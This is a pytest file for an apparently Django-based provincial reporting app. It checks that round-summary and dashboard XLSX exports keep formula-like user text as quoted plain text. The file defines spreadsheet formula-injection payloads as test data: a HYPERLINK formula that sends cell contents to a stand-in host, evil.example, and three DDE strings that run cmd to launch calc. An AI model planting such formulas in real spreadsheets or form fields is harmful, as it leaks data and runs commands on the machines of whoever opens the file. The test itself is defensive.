"""Round summary and dashboard workbooks, read back: what a reporter or planner typed that looks
like a formula (``=HYPERLINK(…)`` in "difficulties") arrives in the leaders' file as text."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

import reports.exporters  # noqa: F401 - registers the round exporters
from accounts.models import Role
from agreements.models import Agency
from devdata.demo import demo_reports_load
from reports.models import Report, ReportingRound
from tasks.exporters.base import exporter_for
from tasks.models import Task
from tests.factories import make_user

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


def cells_with(book, texts):
    found = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in texts:
                    found.setdefault(cell.value, []).append(cell)
    return found


def assert_all_text(book, texts):
    found = cells_with(book, texts)
    assert set(found) == set(texts)  # every hostile string is in the file, unchanged
    for cells in found.values():
        for cell in cells:
            assert cell.data_type == "s" and cell.quotePrefix, (cell.parent.title, cell.value)


def test_round_xlsx_keeps_report_texts_as_text(quang_tri):
    reporting_round = ReportingRound.objects.get(request_number="6452/UBND-ĐN")
    make_user(
        "c", Role.COORDINATOR, quang_tri, Agency.objects.get(province=quang_tri, name="Sở Ngoại vụ")
    )
    assert demo_reports_load()
    reports = Report.objects.filter(reporting_round=reporting_round)
    assert reports.exists()
    reports.update(difficulties=LINK, proposals=PLUS, next_period_proposals=MINUS)
    task = Task.objects.filter(plan__in=reporting_round.plans.all()).order_by("pk").first()
    Task.objects.filter(pk=task.pk).update(content=AT)

    export = exporter_for("round", "xlsx")(reporting_round)
    assert_all_text(load_workbook(io.BytesIO(export.content)), {LINK, PLUS, MINUS, AT})


def test_dashboard_xlsx_keeps_task_texts_as_text(client, quang_tri):
    client.force_login(make_user("ld", "leader", quang_tri, None))
    overdue = Task.objects.filter(plan__province=quang_tri, plan__number="165/QĐ-UBND")
    first, second = overdue.order_by("pk")[:2]
    Task.objects.filter(pk=first.pk).update(content=LINK, timeframe_text=MINUS)
    Task.objects.filter(pk=second.pk).update(content=AT, lead_text=PLUS)
    second.leads.all().delete()  # the lead column then shows the printed lead text

    response = client.get("/dashboard/export/xlsx/", {"panel": "overdue"})
    assert response.status_code == 200
    assert_all_text(load_workbook(io.BytesIO(response.content)), {LINK, PLUS, MINUS, AT})
